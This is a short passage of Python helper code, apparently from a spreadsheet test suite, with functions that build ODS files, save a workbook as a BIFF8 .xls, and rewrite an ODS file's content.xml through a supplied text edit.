    return ods(ods_content("".join(ods_table(s) for s in sheets)), members={"meta.xml": ods_meta(local)})


def xls_of(xlsx: bytes, edit: Callable[[list[Sheet]], None] | None = None, **kwargs) -> bytes:
    """The same workbook saved as a BIFF8 .xls."""
    sheets = sheets_of(xlsx)
    if edit:
        edit(sheets)
    return xls(sheets, **kwargs)


def ods_with_content(data: bytes, edit: Callable[[str], str], level: int = 6) -> bytes:
    """An .ods rewritten through a text edit of its content.xml (other members as `ods` writes them)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        content = z.read("content.xml").decode("utf-8")
    after = edit(content)
    assert after != content, "the edit did not change content.xml"
    return ods(after.encode("utf-8"), level=level)
